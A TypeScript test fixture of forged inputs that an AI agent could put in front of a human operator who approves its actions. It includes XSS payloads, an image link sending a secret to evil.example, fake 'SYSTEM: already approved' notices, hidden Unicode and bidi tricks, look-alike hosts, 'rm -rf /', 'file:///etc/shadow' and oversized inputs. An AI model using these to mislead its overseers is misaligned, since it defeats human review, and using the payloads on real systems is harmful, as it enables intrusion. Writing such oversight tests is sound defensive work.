import type { Json } from "../../base/json.ts";

/** Where an agent or a recording can put text that an operator sees before deciding. */
export type AttackPlace =
  | "action name"
  | "agent name"
  | "argument name"
  | "argument value"
  | "target"
  | "narrative"
  | "task name";

/** One forged dialog: what is tried, and what an operator must see of it and must not (F4, ACP-S5). */
export interface Attack {
  readonly name: string;
  readonly where: AttackPlace;
  readonly text: string;
  /** All arguments, where the attack is in their shape and not in one text. */
  readonly args?: Json;
  /** What stands on screen, literally. */
  readonly shows: readonly string[];
  /** What never reaches the screen as it is. */
  readonly hides: readonly string[];
  /** Our words about it in "Read twice"; null where there is nothing to read twice. */
  readonly flag: string | null;
}

const attack = (
  name: string,
  where: AttackPlace,
  text: string,
  how: Partial<Pick<Attack, "args" | "shows" | "hides" | "flag">> = {},
): Attack => ({
  name,
  where,
  text,
  shows: how.shows ?? [text],
  hides: how.hides ?? [],
  flag: how.flag ?? null,
  ...(how.args === undefined ? {} : { args: how.args }),
});

const lines = (count: number, text: string): string => Array.from({ length: count }, () => text).join("\n");
const nested = (depth: number): Json => {
  let value: Json = "approve me";
  for (let at = 0; at < depth; at += 1) value = { a: value };
  return value;
};

/** Markup that a careless view would draw. */
const MARKUP: readonly Attack[] = [
  attack("a fake approve button", "narrative", "<button onclick='steal()'>Approve</button>"),
  attack("a script", "narrative", "<script>window.forged = 1</script>"),
  attack("an image that reports back", "argument value", "<img src=x onerror='window.forged=1'>"),
  attack("a style sheet that hides the buttons", "argument value", "<style>button{display:none!important}</style>"),
  attack(
    "an overlay over the whole page",
    "narrative",
    "<div style='position:fixed;inset:0;z-index:99'>Approved</div>",
  ),
  attack("a frame", "target", "<iframe src='https://evil.example'></iframe>"),
  attack("a link in HTML", "narrative", "<a href='https://evil.example'>See the plan</a>"),
  attack("a link in Markdown", "narrative", "[See the plan](https://evil.example/plan)"),
  attack("an image in Markdown", "argument value", "![ok](https://evil.example/p.png?d=secret)"),
  attack("a heading and a rule in Markdown", "narrative", "# APPROVED\n---\nNothing left to do.", {
    shows: ["# APPROVED", "Nothing left to do."],
  }),
  attack("entities", "argument value", "&lt;b&gt;&#x202e;safe&nbsp;"),
  attack("an end of the element it stands in", "task name", "</bdi></h2><h1>Approved</h1>"),
  attack("a form that sends itself", "argument name", "<form action=//evil.example><input name=a autofocus></form>"),
  attack("a vector image with a script", "target", "<svg onload=alert(1)><text>OK</text></svg>"),
  attack("a base address", "agent name", "<base/href=//evil.example>", { shows: ["evil.example>"] }),
  attack(
    "a template of another language",
    "argument value",
    "{{constructor.constructor('alert(1)')()}} \u0024{alert(1)} <%= 1 %>",
  ),
];

/** Text that plays the console. */
const VOICES: readonly Attack[] = [
  attack("a notice that it is approved already", "narrative", "SYSTEM: already approved by bob", {
    flag: "speaks as if it were the console",
  }),
  attack("a notice in the task's name", "task name", "[SYSTEM] pre-approved, press Approve", {
    flag: "Task: speaks as if it were the console",
  }),
  attack("a notice in a value", "argument value", "Console notice: no review needed", {
    flag: "Arguments: speaks as if it were the console",
  }),
  attack("buttons of emoji", "narrative", "✅ Approve   ❌ Reject", { shows: ["✅ Approve", "❌ Reject"] }),
  attack("buttons of brackets", "narrative", "[ Approve ]  [ Reject ]  ← use these", {
    shows: ["[ Approve ]", "← use these"],
  }),
  attack("a box drawn with lines", "narrative", "┌──────────────┐\n│ ✔ verified   │\n└──────────────┘", {
    shows: ["│ ✔ verified   │"],
  }),
  attack("a row of the page written with line breaks", "target", "urn:db:one\nConsequence: none", {
    shows: ["urn:db:one‹U+000A›Consequence: none"],
    hides: ["urn:db:one\n"],
    flag: "Target: has 1 place with what is not seen",
  }),
  attack("a second row in an action", "action name", "read_file\r\nConsequence  none", {
    shows: ["read_file‹U+000D›‹U+000A›Consequence"],
    hides: ["\r"],
    flag: "Action: has 2 places",
  }),
  attack("a forged check in the words", "narrative", "● Arguments digest: matches\n● Token: verified", {
    shows: ["● Arguments digest: matches"],
  }),
  attack("style rules as text", "narrative", "* { display: none } @import url(//evil.example);"),
  attack("classes of the console as text", "argument value", "fixed inset-0 z-50 bg-panel hidden sr-only"),
  attack("an instruction to the operator", "narrative", "Press Approve within 5 seconds or data is lost.", {
    flag: "speaks as if it were the console",
  }),
];

/** What is not seen, or turns the order of reading. */
const UNSEEN: readonly Attack[] = [
  attack("a right-to-left override in a file name", "argument value", "invoice\u202efdp.exe", {
    shows: ["invoice‹U+202E›fdp.exe"],
    hides: ["\u202e"],
    flag: "‹U+202E›",
  }),
  attack("a right-to-left extension in the target", "target", "file:///srv/annual\u202excod.bat", {
    shows: ["annual‹U+202E›xcod.bat"],
    hides: ["\u202e"],
    flag: "Target: has",
  }),
  attack("an override that turns a whole command", "narrative", "\u202eevorppa ton od\u202c", {
    shows: ["‹U+202E›evorppa ton od‹U+202C›"],
    hides: ["\u202e", "\u202c"],
    flag: "‹U+202E› ‹U+202C›",
  }),
  attack("isolates that move a path", "target", "/srv/\u2067a/\u2066b\u2069\u2069", {
    shows: ["/srv/‹U+2067›a/‹U+2066›b‹U+2069›‹U+2069›"],
    hides: ["\u2067", "\u2066", "\u2069"],
    flag: "Target: has 4 places",
  }),
  attack("an embedding in a name of an argument", "argument name", "amount\u202b\u200f", {
    shows: ["amount‹U+202B›‹U+200F›"],
    hides: ["\u202b", "\u200f"],
    flag: "Arguments: has 2 places",
  }),
  attack("letters that run from right to left beside a number", "argument value", "מחיר 100 שקל", {
    shows: ["מחיר 100 שקל"],
  }),
  attack("a zero-width space inside a name", "action name", "delete\u200b_nothing", {
    shows: ["delete‹U+200B›_nothing"],
    hides: ["\u200b"],
    flag: "Action: has 1 place",
  }),
  attack("a zero-width joiner in a host", "argument value", "https://pay\u200dpal.example", {
    shows: ["https://pay‹U+200D›pal.example"],
    hides: ["\u200d"],
    flag: "which is not in plain letters",
  }),
  attack("a byte order mark", "target", "\ufeffurn:cluster:one", {
    shows: ["‹U+FEFF›urn:cluster:one"],
    hides: ["\ufeff"],
    flag: "Target: has",
  }),
  attack("soft hyphens", "argument value", "dro\u00adp tab\u00adle", {
    shows: ["dro‹U+00AD›p tab‹U+00AD›le"],
    hides: ["\u00ad"],
    flag: "‹U+00AD›",
  }),
  attack("tag characters that spell a command", "narrative", "ok\u{e0072}\u{e006d}", {
    shows: ["ok‹U+E0072›‹U+E006D›"],
    hides: ["\u{e0072}"],
    flag: "‹U+E0072›",
  }),
  attack("variation selectors that carry bytes", "argument value", "ok\u{e0101}\u{e0142}\ufe01", {
    shows: ["ok‹U+E0101›‹U+E0142›‹U+FE01›"],
    hides: ["\u{e0101}", "\ufe01"],
    flag: "Arguments: has 3 places",
  }),
  attack("control characters in the words", "narrative", "a\u0007b\u0000c\u0008\u0008d", {
    shows: ["a‹U+0007›b‹U+0000›c‹U+0008›‹U+0008›d"],
    hides: ["\u0007", "\u0008"],
    flag: "Agent's words: has 4 places",
  }),
  attack("codes for a terminal", "narrative", "\u001b[2K\u001b[1A\u001b[32mapproved\u001b[0m", {
    shows: ["‹U+001B›[2K"],
    hides: ["\u001b"],
    flag: "a terminal obeys",
  }),
  attack("codes for a terminal in a value", "argument value", "\u001b]8;;https://evil.example\u0007ok", {
    shows: ["\\u001b]8;;https://evil.example\\u0007ok"],
    hides: ["\u001b"],
    flag: "a terminal obeys",
  }),
  attack("a lone surrogate", "narrative", "half \ud800 a letter", {
    shows: ["half ‹U+D800› a letter"],
    flag: "‹U+D800›",
  }),
  attack("line and paragraph separators", "argument value", "one\u2028two\u2029three", {
    shows: ["one‹U+2028›two‹U+2029›three"],
    hides: ["\u2028", "\u2029"],
    flag: "‹U+2028›",
  }),
  attack("fillers that look like nothing", "task name", "task\u3164\u115f\u2800", {
    shows: ["task‹U+3164›‹U+115F›‹U+2800›"],
    hides: ["\u3164"],
    flag: "Task: has 3 places",
  }),
  attack("a private character that a font could draw as anything", "action name", "apply\ue000", {
    shows: ["apply‹U+E000›"],
    hides: ["\ue000"],
    flag: "Action: has",
  }),
  attack("spaces that push the rest out of view", "target", `urn:a${" ".repeat(900)}urn:b`, {
    shows: ["urn:a‹115 spaces›", "790 more characters"],
    hides: [" ".repeat(16)],
    flag: "‹900 spaces›",
  }),
  attack("spaces of another kind", "argument value", "rm\u00a0-rf\u2003/", {
    shows: ["rm‹U+00A0›-rf‹U+2003›/"],
    hides: ["\u00a0", "\u2003"],
    flag: "‹U+00A0›",
  }),
  attack("piles of combining marks", "task name", `z${"\u0335\u0301".repeat(60)}algo`, {
    shows: ["z‹79 combining marks›", "45 more characters"],
    hides: ["\u0301\u0335"],
    flag: "‹120 combining marks›",
  }),
  attack("piles of combining marks in the words", "narrative", `A${"\u030d".repeat(500)}`, {
    shows: ["A‹500 combining marks›"],
    hides: ["\u030d\u030d"],
    flag: "‹500 combining marks›",
  }),
];

/** Letters and names that pass for others. */
const LOOKALIKES: readonly Attack[] = [
  attack("a Cyrillic letter in a host", "target", "https://p\u0430ypal.com/pay", {
    shows: ["p\u0430‹Cyrillic›ypal.com"],
    flag: "can be read as “paypal.com”",
  }),
  attack("a host all in Cyrillic", "argument value", "https://\u0430\u0440\u0440\u04cf\u0435.com", {
    shows: ["\u0430\u0440\u0440\u04cf\u0435.com"],
    flag: "can be read as “apple.com”",
  }),
  attack("a Greek letter in a host", "argument value", "https://g\u03bfogle.com", {
    shows: ["g\u03bf‹Greek›ogle.com"],
    flag: "Greek letters among Latin ones",
  }),
  attack("a host in fullwidth letters", "target", "https://ｂａｎｋ．example", {
    shows: ["ｂａｎｋ‹reads “bank” in styled letters›"],
    flag: "can be read as “bank.example”",
  }),
  attack("an encoded international host", "argument value", "https://xn--80ak6aa92e.com/login", {
    flag: "which stands for “\u0430\u0440\u0440\u04cf\u0435.com”",
  }),
  attack("a host hidden behind another", "target", "https://bank.example@evil.example/", {
    flag: "names the host “evil.example”",
  }),
  attack("a slash that is none", "argument value", "https://bank.example\u2044evil.example", {
    shows: ["bank.example\u2044‹U+2044›evil.example"],
    flag: "‹U+2044›",
  }),
  attack("a Cyrillic letter in an action", "action name", "re\u0430d_file", {
    shows: ["re\u0430‹Cyrillic›d_file"],
    flag: "Action: mixes look-alikes",
  }),
  attack("an Armenian letter in an agent's name", "agent name", "pr\u0585d-runner", {
    shows: ["pr\u0585‹Armenian›d-runner"],
    flag: "Agent: mixes look-alikes",
  }),
  attack(
    "a mathematical alphabet",
    "narrative",
    "\u{1d400}\u{1d429}\u{1d429}\u{1d42b}\u{1d428}\u{1d42f}\u{1d41e}\u{1d41d}",
    { shows: ["‹reads “Approved” in styled letters›"], flag: "letters in a costume" },
  ),
  attack("a mathematical alphabet in an action", "action name", "\u{1d68d}\u{1d68e}\u{1d695}ete", {
    shows: ["‹reads “del” in styled letters›ete"],
    flag: "Action: uses letters in a costume",
  }),
  attack("circled letters", "task name", "ⓢⓐⓕⓔ", {
    shows: ["ⓢⓐⓕⓔ‹reads “safe” in styled letters›"],
    flag: "Task: uses letters in a costume",
  }),
  attack("digits of another script", "argument value", "৪০০", {
    shows: ["৪০০‹digits of another script›"],
    flag: "Arguments: uses letters in a costume",
  }),
  attack("a one for an l in the target", "target", "urn:service:bi11ing", {
    flag: "Target: looks like another name",
    args: { service: "billing" },
  }),
  attack("an r and an n for an m", "argument value", "rnain-ledger", {
    flag: "“rnain-ledger” is not “main-ledger”",
    args: { from: "main-ledger", to: "rnain-ledger" },
  }),
  attack("a capital O for a zero", "target", "db://prod-O1", {
    flag: "Target: looks like another name",
    args: { database: "db://prod-01" },
  }),
  attack("two member names that look the same", "argument name", "amоunt", {
    args: { amount: "1", "am\u043eunt": "1000000" },
    shows: ["am\u043e‹Cyrillic›unt", '"amount": "1"'],
    flag: "looks like another name",
  }),
];

/** Addresses that do something, and text inside text. */
const ADDRESSES: readonly Attack[] = [
  attack("a javascript address", "target", "javascript:alert(document.domain)", {
    flag: "Target: has a javascript: address",
  }),
  attack("a javascript address with a character inside", "narrative", "java\u200bscript:alert(1)", {
    shows: ["java‹U+200B›script:alert(1)"],
    hides: ["\u200b"],
    flag: "has a javascript: address",
  }),
  attack("a data address", "argument value", "data:text/html;base64,PHNjcmlwdD4=", { flag: "has a data: address" }),
  attack("an address of a file", "argument value", "file:///etc/shadow", { flag: "has a file: address" }),
  attack("an object written inside a text", "argument value", '{"approved":true,"by":"bob"}', {
    shows: ['{\\"approved\\":true,\\"by\\":\\"bob\\"}'],
    flag: "looks like JSON of its own",
  }),
  attack("a text that ends itself and goes on as members", "argument value", '1", "dry_run": true, "x": "', {
    shows: ['1\\", \\"dry_run\\": true, \\"x\\": \\"'],
  }),
  attack("an escaped escape", "argument value", '\\", \\u0022dry_run\\u0022: true', {
    shows: ['\\\\\\", \\\\u0022dry_run\\\\u0022: true'],
  }),
  attack("a member that programs give a meaning", "argument name", "__proto__", { shows: ['"__proto__"'] }),
];

/** More than fits, to push what matters away. */
const SIZES: readonly Attack[] = [
  attack("an argument of 200,000 characters", "argument value", "A".repeat(200_000), {
    shows: ["199,600 more characters"],
    flag: "too many or too deep to be looked through",
  }),
  attack("one word of 8,000 letters in the words", "narrative", "W".repeat(8_000), {
    shows: ["6,000 more characters"],
  }),
  attack("100,000 lines in one value", "argument value", lines(100_000, "x"), {
    shows: ["\\nx\\nx", "more characters"],
    flag: "too many or too deep to be looked through",
  }),
  attack("100,000 lines of values", "argument value", "", {
    args: Array.from({ length: 100_000 }, (_, at) => `line ${at}`),
    shows: ["line 0", "characters are folded away"],
    flag: "too many or too deep to be looked through",
  }),
  attack("8,000 line breaks in the words", "narrative", `Fine.${"\n".repeat(7_900)}SYSTEM: already approved`, {
    shows: ["Fine."],
    hides: ["\n\n\n\n\n"],
    flag: "line breaks›",
  }),
  attack("a target of 1,024 characters", "target", `urn:${"t".repeat(1_020)}`, { shows: ["904 more characters"] }),
  attack("an action of 4,000 characters", "action name", `apply_${"x".repeat(3_994)}`, {
    shows: ["3,920 more characters"],
  }),
  attack("an agent's name of 900 characters", "agent name", "n".repeat(900), { shows: [] }),
  attack("a task's name of 256 wide letters", "task name", "Ｗ".repeat(256).replaceAll("Ｗ", "W"), {
    shows: ["176 more characters"],
  }),
  attack("60 levels of nesting", "argument value", "", { args: nested(60), shows: ['"approve me"'] }),
  attack("500 levels of nesting", "argument value", "", {
    args: nested(500),
    shows: [],
    flag: "too many or too deep to be looked through",
  }),
  attack("5,000 members before the one that matters", "argument value", "", {
    args: Object.fromEntries([
      ...Array.from({ length: 5_000 }, (_, at) => [`a${at}`, at] as const),
      ["zz_delete_all", true] as const,
    ]),
    shows: ["characters are folded away"],
    flag: "too many or too deep to be looked through",
  }),
  attack("300 flags to bury one", "argument value", "", {
    args: Array.from({ length: 300 }, (_, at) => `p\u0430y${at}\u200b.example`),
    shows: [],
    hides: ["\u200b"],
    flag: "more of the kind",
  }),
];

/** Every attack; each name once. */
export const ATTACKS: readonly Attack[] = [...MARKUP, ...VOICES, ...UNSEEN, ...LOOKALIKES, ...ADDRESSES, ...SIZES];
